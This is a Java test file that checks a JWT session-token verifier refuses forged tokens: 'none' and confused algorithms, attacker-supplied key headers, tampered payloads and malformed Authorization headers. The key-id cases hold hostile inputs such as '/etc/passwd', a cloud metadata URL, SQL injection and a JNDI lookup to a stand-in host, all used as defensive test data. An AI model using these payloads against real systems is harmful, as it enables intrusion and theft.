package com.interactioncredits.auth;

import static com.interactioncredits.auth.Draft.KEY_ID;
import static com.interactioncredits.auth.Draft.NOW;
import static com.interactioncredits.auth.Draft.ORIGIN;
import static com.interactioncredits.auth.Draft.quoted;
import static com.interactioncredits.auth.Draft.session;
import static org.assertj.core.api.Assertions.assertThat;

import com.interactioncredits.auth.TokenOutcome.Reason;
import com.interactioncredits.auth.TokenOutcome.Refused;
import com.interactioncredits.auth.TokenOutcome.Verified;
import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jwt.EncryptedJWT;
import com.nimbusds.jwt.JWTClaimsSet;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.interfaces.RSAPublicKey;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What can be tried without Clerk's private key. Each is tried against keys from a PEM and from a key set.
class ForgedTokensTest {

    private static final KeySetServer CLERK = new KeySetServer(Keys.jwks(Keys.jwk(KEY_ID, Keys.CLERKS)));
    private static final SessionTokens BY_PEM = tokens(new AuthSettings.Pem(Keys.pem(Keys.CLERKS)));
    private static final SessionTokens BY_KEY_SET = tokens(new AuthSettings.JwksUrl(CLERK.address()));
    private static final String VALID = session().signed();

    @AfterAll
    static void stop() {
        CLERK.close();
    }

    // The algorithm

    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE", "", "rs256", "RS256 ", "RS384", "HS256", "ES256", "EdDSA"})
    void anotherAlgorithmIsRefused(String algorithm) {
        var draft = session().header("alg", quoted(algorithm));
        assertRefused(draft.signed(), Reason.ALGORITHM);
        assertRefused(draft.unsigned() + ".x", Reason.MALFORMED);
        assertRefused(draft.unsigned() + ".", Reason.MALFORMED);
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "256", "true", "[\"RS256\"]", "{\"alg\":\"RS256\"}"})
    void anAlgorithmThatIsNoTextIsRefused(String json) {
        assertRefused(session().header("alg", json).signed(), Reason.ALGORITHM);
    }

    @Test
    void aTokenWithoutAlgorithmIsRefused() {
        assertRefused(session().withoutHeader("alg").signed(), Reason.ALGORITHM);
    }

    @Test
    void thePublicKeyIsNoSharedSecret() throws GeneralSecurityException {
        var pem = Keys.pem(Keys.CLERKS);
        for (var secret :
                Set.of(pem, pem.strip(), Draft.encode(Keys.CLERKS.getPublic().getEncoded()))) {
            var mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
            for (var algorithm : Set.of("HS256", "RS256")) {
                var text = session().header("alg", quoted(algorithm)).unsigned();
                var signature = Draft.encode(mac.doFinal(text.getBytes(StandardCharsets.US_ASCII)));
                assertRefused(text + '.' + signature, algorithm.equals("HS256") ? Reason.ALGORITHM : Reason.SIGNATURE);
            }
        }
    }

    @Test
    void theRightKeyWithAnotherAlgorithmIsRefused() {
        assertRefused(session().header("alg", quoted("RS512")).signedWith("SHA512withRSA"), Reason.ALGORITHM);
        assertRefused(session().header("alg", quoted("PS256")).signedWith("RSASSA-PSS"), Reason.ALGORITHM);
        assertRefused(session().signedWith("SHA512withRSA"), Reason.SIGNATURE);
        assertRefused(session().signedWith("SHA1withRSA"), Reason.SIGNATURE);
        assertRefused(session().signedWith("RSASSA-PSS"), Reason.SIGNATURE);
    }

    // Keys that the sender brings along

    @Test
    void aKeyInTheTokensHeaderIsRefusedAndNeverFetched() {
        try (var strangers = new KeySetServer(Keys.jwks(Keys.jwk(KEY_ID, Keys.STRANGERS)))) {
            var address = quoted(strangers.address().toString());
            var certificate = '[' + quoted("MIIB") + ']';
            var key = Keys.jwk(KEY_ID, Keys.STRANGERS).toJSONString();
            for (var pair : Set.of(Keys.STRANGERS, Keys.CLERKS)) {
                assertRefused(session().header("jku", address).signedBy(pair), Reason.FORBIDDEN_HEADER);
                assertRefused(session().header("x5u", address).signedBy(pair), Reason.FORBIDDEN_HEADER);
                assertRefused(session().header("jwk", key).signedBy(pair), Reason.FORBIDDEN_HEADER);
                assertRefused(session().header("x5c", certificate).signedBy(pair), Reason.FORBIDDEN_HEADER);
            }
            assertThat(strangers.fetches()).isZero();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"crit", "b64", "zip", "enc", "x5t", "x5t#S256"})
    void aHeaderThatChangesWhatASignatureMeansIsRefused(String name) {
        for (var json : Set.of("null", "false", "[]", "[\"b64\"]", "\"DEF\"")) {
            assertRefused(session().header(name, json).signed(), Reason.FORBIDDEN_HEADER);
        }
    }

    @Test
    void anotherKeysSignatureIsRefused() {
        assertRefused(session().signedBy(Keys.STRANGERS), Reason.SIGNATURE);
        assertRefused(session().signedBy(Keys.SHORT), Reason.SIGNATURE);
    }

    // Key ids

    /// The second where the key set was fetched too short a time ago to be fetched again.
    private static final List<TokenOutcome> UNKNOWN =
            List.of(new Refused(Reason.UNKNOWN_KEY), new TokenOutcome.KeysUnavailable());

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "INS_FIRST",
                "ins_first ",
                "ins_firs",
                "../../dev/null",
                "/etc/passwd",
                "file:///etc/passwd",
                "http://169.254.169.254/",
                "' OR '1'='1",
                "ins_first'; DROP TABLE keys; --",
                "ins_first\\u0000",
                "\\ud83d\\ude00",
                "\\ud800",
                "${jndi:ldap://evil.test/a}"
            })
    void anUnknownKeyIdIsRefused(String keyId) {
        assertThat(verify(BY_KEY_SET, session().header("kid", quoted(keyId)).signed()))
                .isIn(UNKNOWN);
    }

    @Test
    void aTokenWithoutKeyIdIsRefusedWhereKeysHaveIds() {
        var token = session().withoutHeader("kid").signed();
        assertThat(verify(BY_KEY_SET, token)).isEqualTo(new Refused(Reason.KEY_ID));
        assertThat(verify(BY_PEM, token)).isInstanceOf(Verified.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "1", "true", "[\"ins_first\"]", "{\"kid\":\"ins_first\"}"})
    void aKeyIdThatIsNoTextIsRefused(String json) {
        assertRefused(session().header("kid", json).signed(), Reason.KEY_ID);
    }

    @Test
    void aHugeKeyIdIsRefusedUnread() {
        assertRefused(session().header("kid", quoted("k".repeat(100_000))).signed(), Reason.TOO_LARGE);
        assertThat(verify(
                        BY_KEY_SET,
                        session().header("kid", quoted("k".repeat(4_000))).signed()))
                .isIn(UNKNOWN);
    }

    // The text

    @Test
    void aTamperedPayloadIsRefused() {
        var parts = VALID.split("\\.", -1);
        var eve = Draft.encode(session().claim("sub", quoted("user_eve")).claimsJson());
        var admin =
                Draft.encode(session().claim("metadata", "{\"role\":\"admin\"}").claimsJson());
        assertRefused(parts[0] + '.' + eve + '.' + parts[2], Reason.SIGNATURE);
        assertRefused(parts[0] + '.' + admin + '.' + parts[2], Reason.SIGNATURE);
        var otherHeader = Draft.encode(session().withoutHeader("typ").headerJson());
        assertRefused(otherHeader + '.' + parts[1] + '.' + parts[2], Reason.SIGNATURE);
    }

    @Test
    void theSignatureIsJudgedBeforeTheClaims() {
        assertRefused(session().claim("exp", "0").claim("iss", "null").signedBy(Keys.STRANGERS), Reason.SIGNATURE);
    }

    @Test
    void theUnusedBitsOfTheLastCharacterCount() {
        // 256 bytes take 342 characters, whose last four bits say nothing.
        var alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        var last = alphabet.indexOf(VALID.charAt(VALID.length() - 1));
        for (var bits = 1; bits < 16; bits++) {
            var sameBytes = VALID.substring(0, VALID.length() - 1) + alphabet.charAt(last + bits);
            assertThat(Base64.getUrlDecoder().decode(signature(sameBytes)))
                    .isEqualTo(Base64.getUrlDecoder().decode(signature(VALID)));
            assertRefused(sameBytes, Reason.MALFORMED);
        }
    }

    @Test
    void anyOtherNumberOfPartsIsRefused() throws JOSEException {
        var parts = VALID.split("\\.", -1);
        assertRefused(parts[0], Reason.MALFORMED);
        assertRefused(parts[0] + '.' + parts[1], Reason.MALFORMED);
        assertRefused(VALID + '.', Reason.MALFORMED);
        assertRefused('.' + VALID, Reason.MALFORMED);
        assertRefused(VALID + '.' + parts[2], Reason.MALFORMED);
        assertRefused(VALID.replace(".", ".."), Reason.MALFORMED);
        assertRefused("..", Reason.MALFORMED);
        assertRefused(parts[0] + ".." + parts[2], Reason.MALFORMED);

        var encrypted = new EncryptedJWT(
                new JWEHeader(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A256GCM),
                new JWTClaimsSet.Builder().subject("user_ada").build());
        encrypted.encrypt(new RSAEncrypter((RSAPublicKey) Keys.CLERKS.getPublic()));
        assertRefused(encrypted.serialize(), Reason.MALFORMED);
    }

    @Test
    void aHeaderThatIsNoPlainJsonObjectIsRefused() {
        var header = session().headerJson();
        for (var odd : Set.of(
                "[]",
                "null",
                "{",
                header + header,
                header + "x",
                "\uFEFF" + header,
                header.replace("}", ",\"alg\":\"none\"}"),
                header.replace("}", ",\"kid\":\"ins_first\"}"))) {
            var text = Draft.encode(odd) + '.' + Draft.encode(session().claimsJson());
            assertRefused(Draft.sign(text, Keys.CLERKS, "SHA256withRSA"), Reason.MALFORMED);
        }
        for (var bytes : new byte[][] {
            header.getBytes(StandardCharsets.UTF_16BE), {'{', '"', (byte) 0xC0, (byte) 0xAF, '"', ':', '1', '}'}
        }) {
            var text = Draft.encode(bytes) + '.' + Draft.encode(session().claimsJson());
            assertRefused(Draft.sign(text, Keys.CLERKS, "SHA256withRSA"), Reason.MALFORMED);
        }
    }

    // The Authorization header

    @Test
    void theSchemeIsReadInAnyCase() {
        for (var scheme : Set.of("Bearer", "bearer", "BEARER", "bEaReR")) {
            assertThat(BY_PEM.verify(scheme + ' ' + VALID)).isInstanceOf(Verified.class);
        }
    }

    @Test
    void aCallWithoutTokenIsRefused() {
        assertThat(BY_PEM.verify(null)).isEqualTo(new Refused(Reason.NO_TOKEN));
        assertThat(BY_PEM.verify("")).isEqualTo(new Refused(Reason.NO_TOKEN));
    }

    @Test
    void anythingButOneBearerTokenIsRefused() {
        for (var authorization : Set.of(
                " ",
                "Bearer",
                "Bearer ",
                "Bearer\t" + VALID,
                " Bearer " + VALID,
                "Bearer " + VALID + ' ',
                "Bearer " + VALID + '\n',
                "Bearer " + VALID + "\r\nX: y",
                "Bearer " + VALID + ' ' + VALID,
                "Bearer " + VALID + ", Bearer " + VALID,
                "Bearer " + VALID + ',' + VALID,
                "Bearer Bearer " + VALID,
                "Bearer: " + VALID,
                "Bearer=" + VALID,
                "Basic dXNlcjpwYXNz",
                "Basic " + VALID,
                "Token " + VALID,
                VALID,
                "Bearer " + VALID + "=",
                "Bearer " + VALID + "\u0000",
                "Bearer " + VALID + "é",
                "Béarer " + VALID,
                "Bearer\u00a0" + VALID,
                "Bearer \uD83D\uDE00",
                "\uFF22earer " + VALID)) {
            assertThat(BY_PEM.verify(authorization)).as(authorization).isEqualTo(new Refused(Reason.NOT_BEARER));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"ak_0123456789abcdef", "mt_0123456789abcdef", "oat_0123456789abcdef", "mt_a.b.c", "ak_"})
    void aTokenThatOnlyClerkCouldLookUpIsRefused(String token) {
        assertRefused(token, Reason.OPAQUE);
    }

    @Test
    void aHeaderOfMoreThanEightKibibytesIsRefused() {
        var longest = 8192 - "Bearer ".length();
        assertRefused("x".repeat(longest), Reason.MALFORMED);
        assertRefused("x".repeat(longest + 1), Reason.TOO_LARGE);
        assertRefused(session().claim("padding", quoted("x".repeat(6_000))).signed(), Reason.TOO_LARGE);
        assertThat(verify(
                        BY_PEM,
                        session().claim("padding", quoted("x".repeat(5_000))).signed()))
                .isInstanceOf(Verified.class);
        assertRefused("x".repeat(1_000_000), Reason.TOO_LARGE);
    }

    private static String signature(String token) {
        return token.substring(token.lastIndexOf('.') + 1);
    }

    private static void assertRefused(String token, Reason reason) {
        assertThat(verify(BY_PEM, token)).as("by PEM").isEqualTo(new Refused(reason));
        assertThat(verify(BY_KEY_SET, token)).as("by key set").isEqualTo(new Refused(reason));
    }

    private static TokenOutcome verify(SessionTokens tokens, @Nullable String token) {
        return tokens.verify("Bearer " + token);
    }

    private static SessionTokens tokens(AuthSettings.KeySource keys) {
        var settings = new AuthSettings(Draft.ISSUER, keys, Set.of(ORIGIN), false, Draft.MACHINES);
        return new SessionTokens(settings, Clock.fixed(NOW, ZoneOffset.UTC));
    }
}
